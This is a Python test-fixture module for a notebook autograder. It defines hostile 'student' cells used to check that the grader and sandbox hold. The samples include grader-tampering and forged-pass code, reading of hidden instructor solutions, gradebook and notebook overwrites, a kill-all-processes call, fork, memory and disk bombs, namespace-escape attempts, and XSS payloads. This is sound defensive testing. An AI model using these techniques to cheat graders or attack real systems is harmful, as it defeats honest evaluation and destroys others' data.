"""The hostile class's attacks: the code each bad submission puts in a cell.

Each constant is the source of one cell (most end with a wrong answer to task 1.1, so that
an attack which forged a pass would show); `build_class` in `__init__` puts them in
notebooks and says what each must score.
"""

WRONG_1_1 = '''def residual_stack(x, depth=20):
    return x * 2
'''

PATCH_CHECKS = '''import builtins, math, sys, types
import autograder.kernel.checks as checks
checks.check_value = lambda *args, **kwargs: None
checks.check_gradient = lambda *args, **kwargs: 1.1 ** 20
fake = types.ModuleType("autograder.kernel.checks")
fake.__dict__.update(checks.__dict__)
sys.modules["autograder.kernel.checks"] = fake
''' + WRONG_1_1

PATCH_BUILTINS = '''import builtins, math
builtins.abs = lambda x: float("inf")   # every tolerance becomes infinite
math.isclose = lambda *args, **kwargs: True
''' + WRONG_1_1

PATCH_MID_TEST = '''def residual_stack(x, depth=20):
    # called by the test cell: switch off the rest of the checks from inside the test
    import builtins, contextlib, math
    import autograder.kernel.checks as checks
    g = globals()
    g["check_value"] = lambda *args, **kwargs: None
    g["check_gradient"] = lambda *args, **kwargs: 1.1 ** 20
    checks.check_value = lambda *args, **kwargs: None
    checks._as_number = lambda obj, what: 1.1 ** 20
    builtins.abs = lambda x: float("inf")
    math.isclose = lambda *args, **kwargs: True
    contextlib._GeneratorContextManager.__exit__ = lambda *args: True
    return x * 2
'''

TAMPER_DURING_TEST = '''def residual_stack(x, depth=20):
    import math
    math.isclose = lambda *args, **kwargs: True  # right answer, but it tampers as well
    for _ in range(depth):
        x = x + layer(x)
    return x
'''

IPYTHON_HOOKS = '''ip = get_ipython()
ip.set_custom_exc((BaseException,), lambda *args, **kwargs: None)  # swallow every error
ip.showtraceback = lambda *args, **kwargs: None
def _blank_tests(lines):
    return ["pass\\n"] if any("autograder.kernel.checks" in line for line in lines) else lines
ip.input_transformers_cleanup.append(_blank_tests)  # test cells become `pass`
''' + WRONG_1_1

FAKE_SUCCESS = '''def residual_stack(x, depth=20):
    print("Task 1.1 (output): every check in this cell passed.")
    print("Task 1.1 (gradient): every check in this cell passed.")
    try:  # a result in a test cell's output is nbgrader's partial credit
        get_ipython().displayhook(2)
    except Exception:
        pass
    return x * 2
print("Task 1.1 (output): every check in this cell passed.")
'''

RUNTIME_SHADOW = '''import os, sys
for base in (os.getcwd(), "/tmp"):
    os.makedirs(os.path.join(base, "autograder"), exist_ok=True)
    open(os.path.join(base, "autograder", "__init__.py"), "w").close()
    with open(os.path.join(base, "autograder", "checks.py"), "w") as f:
        f.write("class _Ok:\\n    def __enter__(self): return self\\n"
                "    def __exit__(self, *a): return True\\n"
                "def __getattr__(name):\\n    return lambda *a, **k: _Ok()\\n")
    sys.path.insert(0, base)
for name in [m for m in sys.modules if m.startswith("autograder")]:
    del sys.modules[name]
''' + WRONG_1_1

READ_SECRETS = '''import glob, os, socket
targets = {targets!r}
found = []
for path in targets:
    try:
        with open(path, "rb") as f:
            f.read(100)
        found.append(path)
    except Exception as exc:
        print(path, type(exc).__name__)
for root, dirs, files in os.walk("/"):
    if root.startswith(("/proc", "/sys", "/usr")):
        dirs[:] = []
        continue
    for name in files:
        path = os.path.join(root, name)
        if name.endswith((".ipynb", ".db")):
            try:
                text = open(path, errors="replace").read()
            except Exception:
                continue
            if "BEGIN HIDDEN TESTS" in text or "BEGIN SOLUTION" in text or name.endswith(".db"):
                found.append(path)
print("found:", found)
solved = False
for path in found:  # with the instructor's notebook, the solution is one exec away
    if solved or not path.endswith(".ipynb"):
        continue
    try:
        import json as _json
        for cell in _json.load(open(path))["cells"]:
            source = "".join(cell["source"])
            # the instructor's answer cell (not a cell like this one, which would walk again)
            if source.startswith("def residual_stack") and "### BEGIN SOLUTION\\n" in source:
                exec(source.replace("### BEGIN SOLUTION", "").replace("### END SOLUTION", ""))
                solved = True
    except Exception as exc:
        print("could not use", path, exc)
try:
    socket.create_connection(("1.1.1.1", 443), timeout=3)
    print("network: reachable")
except OSError as exc:
    print("network:", exc)
'''

WRITE_OTHERS = '''import os, signal, sqlite3
for path in {gradebooks!r}:
    try:
        db = sqlite3.connect(path, timeout=1)
        db.execute("UPDATE grade SET auto_score = 1000")
        db.commit()
        print("gradebook written:", path)
    except Exception as exc:
        print(path, type(exc).__name__, exc)
for path in {victims!r}:
    try:
        with open(path, "w") as f:
            f.write("not a notebook any more")
        print("overwrote", path)
    except Exception as exc:
        print(path, type(exc).__name__)
try:
    os.kill(-1, signal.SIGKILL)  # every process this user may signal
except Exception as exc:
    print("kill:", exc)
'''

FORK_BOMB = '''import os, time
children = 0
while True:
    pid = os.fork()
    if pid == 0:
        while True:
            time.sleep(1)
    children += 1
'''

MEMORY_BOMB = '''table = bytearray(640 * 1024 ** 3)  # 640 GiB
''' + WRONG_1_1

DISK_FILLER = '''import os
try:
    with open("big", "wb") as f:
        f.write(b"x" * (200 * 1024 * 1024))
except OSError as exc:
    print("one big file:", exc)
i = 0
try:
    while True:
        with open(f"part{i}", "wb") as f:
            f.write(b"x" * (32 * 1024 * 1024))
        i += 1
except OSError as exc:
    print("many files:", i, exc)
'''

# what the sandbox's walls must stop (each step prints how it ended; the test reads them):
# memory the address-space limit does not count, a user namespace in which the kernel is
# root and mounts what it likes, a secret in the uid's keyring for the next student
LEAVE_THE_WALLS = r'''import ctypes, errno, os
libc = ctypes.CDLL(None, use_errno=True)
try:
    fd = os.memfd_create("hoard")
    block = b"x" * (64 << 20)
    for _ in range(40):  # 2.5 GiB of the host's shared memory, unmapped
        os.write(fd, block)
    print("memfd: held", os.fstat(fd).st_size >> 20, "MiB")
except OSError as exc:
    print("memfd: refused", errno.errorcode.get(exc.errno, exc.errno))
pid = os.fork()
if pid == 0:
    CLONE_NEWUSER, CLONE_NEWNS = 0x10000000, 0x00020000
    if libc.unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0:
        os._exit(100 + ctypes.get_errno())
    with open("/proc/self/uid_map", "w") as f:
        f.write(f"0 {os.getuid()} 1")
    ok = libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0
    os._exit(0 if ok else 50)
code = os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])
print("namespace:", "root with a tmpfs of its own" if code == 0 else
      f"refused {errno.errorcode.get(code - 100, code)}" if code >= 100 else f"exit {code}")
KEY_SPEC_USER_KEYRING = -4
key = libc.syscall(248, b"user", b"left-for-the-next", b"the secret", 10,
                   KEY_SPEC_USER_KEYRING)  # add_key (x86_64)
print("keyring:", "stored" if key >= 0 else
      f"refused {errno.errorcode.get(ctypes.get_errno())}")
'''


# ---- attacks on the grading machinery inside the kernel (the kernel is only a witness)

CODE_SWAP = '''import autograder.kernel.checks as c
c.check_value.__code__ = (lambda *args, **kwargs: None).__code__
c.check_gradient.__code__ = (lambda f, x, what, *a, **k: 1.1 ** 20).__code__
''' + WRONG_1_1

DEFAULTS_SWAP = '''from autograder.kernel.checks import check_value
check_value.__defaults__ = ("", 1e300, 1e300, True)  # every tolerance enormous
''' + WRONG_1_1

TASK_PATCH = '''from autograder.kernel.checks import task
task.__exit__ = lambda self, *args: True  # swallow every failure inside a test
''' + WRONG_1_1

KERNEL_MACHINERY = '''import json
kernel = get_ipython().kernel
real = kernel.do_execute
async def do_execute(code, silent, *args, **kwargs):
    if code.startswith("#%residual-pack graded test "):
        header = json.loads(code.split("\\n", 1)[0][len("#%residual-pack graded test "):])
        return {"status": "ok", "execution_count": 1, "user_expressions": {}, "payload": [],
                "residual_pack": {"nonce": header.get("nonce"), "records": [],
                                  "restored": [], "changed": []}}
    return await real(code, silent, *args, **kwargs)
kernel.do_execute = do_execute
''' + WRONG_1_1

AUDIT_HOOK = '''import sys
def hook(event, args):
    if event == "exec":  # the test cell starts: send its observations elsewhere
        w = sys.modules.get("autograder.kernel.witness")
        state = getattr(w, "_state", None)  # where the records were kept in the kernel
        if isinstance(state, dict) and state.get("records") is not None:
            state["records"] = []
sys.addaudithook(hook)
''' + WRONG_1_1

TRACE_FUNCTION = '''import sys, threading
def tracer(frame, event, arg):
    # every call the test makes passes here: empty the witness's records on the way
    w = sys.modules.get("autograder.kernel.witness")
    if w is not None and isinstance(getattr(w, "_state", None), dict):
        if w._state.get("records"):
            w._state["records"] = []
    return tracer
sys.settrace(tracer)
threading.settrace(tracer)
sys.setprofile(lambda frame, event, arg: None)
''' + WRONG_1_1

HANDED_FUNCTION = '''def input_gradient(stack, x, depth):
    # a hidden test hands in a function of its own: switch its checks off through it
    g = getattr(stack, "__globals__", {})
    for name in ("check_value", "check_gradient", "check_values"):
        if name in g:
            g[name] = lambda *args, **kwargs: None
    return 0.001
'''

FRAME_WALK = '''import sys
def residual_stack(x, depth=20):
    frame = sys._getframe(1)
    while frame is not None:  # patch the checks wherever the test keeps them
        for space in (frame.f_globals, frame.f_locals):
            for name in ("check_value", "check_gradient"):
                if name in space:
                    space[name] = lambda *args, **kwargs: None
        frame = frame.f_back
    return x * 2
'''

GC_HELPERS = '''import gc
def residual_stack(x, depth=20):
    for obj in gc.get_objects():  # every copy of the checks, wherever the grader made it
        if callable(obj) and getattr(obj, "__name__", "") in ("check_value", "settle"):
            try:
                obj.__code__ = (lambda *args, **kwargs: None).__code__
            except Exception:
                pass
    return x * 2
'''

CTYPES_POKE = '''import ctypes
from autograder.kernel import checks
target = ctypes.cast(id(checks), ctypes.py_object).value
target.check_value = lambda *args, **kwargs: None
''' + WRONG_1_1

BIG_MESSAGE = '''from IPython.display import display
display({"text/plain": "x" * (70 << 20)}, raw=True)  # one 70 MiB message
'''

SOCKET_FILLER = '''import os, sys
folder = os.path.dirname(sys.argv[sys.argv.index("-f") + 1])  # the sockets' folder
written = 0
try:
    with open(os.path.join(folder, "filler"), "wb") as f:
        for _ in range(300):
            f.write(b"x" * (1 << 20))
            f.flush()
            written += 1
except OSError as exc:
    print("stopped:", type(exc).__name__)
print(f"socket folder: wrote {written} MiB")
'''

# issue #26's kinds, each in a plain spelling (the red team's own versions are not kept)

FINALIZER_FORGE = '''import autograder.kernel.witness as _witness


class _Forger:
    """Freed at once, inside the test: its finalizer rewrites what the checks recorded."""

    def __del__(self):
        records = getattr(_witness, "_state", {}).get("records")
        if isinstance(records, list):
            for record in records:
                if isinstance(record, dict):
                    record["observed"] = {"number": 1.1 ** 20}


def residual_stack(x, depth=20):
    _Forger()
    return x * 2
'''

PRINT_HIDDEN = '''def residual_stack(x, depth=20):
    import linecache
    for entry in list(linecache.cache.values()):
        text = "".join(entry[2]) if len(entry) > 2 else ""
        if "check_" in text:
            print(text)  # the running test cell's source, its hidden checks included
    return x * 2
'''

METADATA_OUTPUT = '''from IPython.display import display
display({"text/plain": "small"}, raw=True, metadata={"pad": "y" * (12 << 20)})
'''

FORGED_GRAD = '''def residual_stack(x, depth=20):
    # the right output, computed on plain numbers: the graph is cut off from x
    def forward(t):
        for _ in range(depth):
            t = t + layer(Value(t)).data
        return t

    # then the gradient the checks want, by central differences, written into x.grad
    h = 1e-6
    x.grad = (forward(x.data + h) - forward(x.data - h)) / (2 * h)
    return Value(forward(x.data))
'''

# issue #42's pages and output kinds

# one small output shown 40 times under one display id, then one update of 1 MiB: nbclient
# writes an update into every earlier output with its id (40 MiB, past the 8 MiB kept)
DISPLAY_UPDATE_FLOOD = '''from IPython.display import display, update_display
for _ in range(40):
    display({"text/plain": "."}, raw=True, display_id="flood")
update_display({"text/plain": "u" * (1 << 20)}, raw=True, display_id="flood")
'''

# widget comms whose state is 30 MiB in all: nbclient keeps a widget's state for the
# notebook's metadata (nb.metadata.widgets), which no output limit saw
WIDGET_STATE_FLOOD = '''from comm import create_comm
for i in range(30):
    create_comm(target_name="jupyter.widget", data={"state": {
        "_model_name": "HTMLModel", "_model_module": "@jupyter-widgets/controls",
        "_model_module_version": "2.0.0", "value": "w" * (1 << 20)}, "buffer_paths": []})
'''

# script in every form a page could run it: each sets document.title and a global, which a
# page test reads back (tests/browser/test_pages_browser.py)
SCRIPT_OUTPUTS = r'''from IPython.display import HTML, SVG, Javascript, Markdown, display
display(HTML("<b>html</b><script>document.title = 'pwned'; window.pwned = 'script'</script>"
             "<img src=x onerror=\"document.title = 'pwned'; window.pwned = 'onerror'\">"
             "<a href=\"javascript:void(window.pwned = 'link')\">link</a>"
             "<iframe srcdoc=\"<script>parent.pwned = 'iframe'</script>\"></iframe>"))
display(Javascript("document.title = 'pwned'; window.pwned = 'javascript'"))
display(SVG("<svg xmlns='http://www.w3.org/2000/svg' width='20' height='20' "
            "onload=\"window.pwned = 'svg onload'\"><script>window.pwned = 'svg'</script>"
            "<circle cx='10' cy='10' r='5'/></svg>"))
display(Markdown("*md* <img src=x onerror=\"window.pwned = 'markdown output'\">"))
display({"application/vnd.jupyter.widget-view+json": {"model_id": "x", "version_major": 2,
         "version_minor": 0}, "text/plain": "widget"}, raw=True)
'''

# ... and the student's own markdown cell
SCRIPT_MARKDOWN = ("A note of mine. <img src=x onerror=\"document.title = 'pwned'; "
                   "window.pwned = 'markdown'\"> "
                   "[more](javascript:void(window.pwned='md_link'))\n\n"
                   "<script>window.pwned = 'markdown script'</script>\n")

# issue #42's kinds against the design where the tests run in the grader

# the witness's records, rewritten in the student's kernel: a right answer recorded for
# every check (the kind that won when the records were made in the kernel)
WITNESS_REWRITE = '''import autograder.kernel.witness as _w
def _settle(kind, observed, make_expected, params, result=None):
    return result
_w.settle = _settle
_w._append = lambda record: None
_w.RECORDER = _settle  # where the grader's recorder is hooked in, if it were here
''' + WRONG_1_1

# the request the kernel is running, read while a test runs: it held the whole test cell
PARENT_REQUEST = '''def residual_stack(x, depth=20):
    from ipykernel.kernelapp import IPKernelApp
    parent = IPKernelApp.instance().kernel.get_parent("shell")
    print("PARENT:", parent.get("content", {}).get("code", ""))
    return x * 2
'''

# a Value made by hand: the right number, and the gradient the test wants as its local
# derivative, with no operation of the engine behind it
HAND_MADE_VALUE = '''def residual_stack(x, depth=20):
    scale = 1.1 ** depth if x.data > 0 else 1.0
    return Value(x.data * scale, (x,), (scale,))
'''
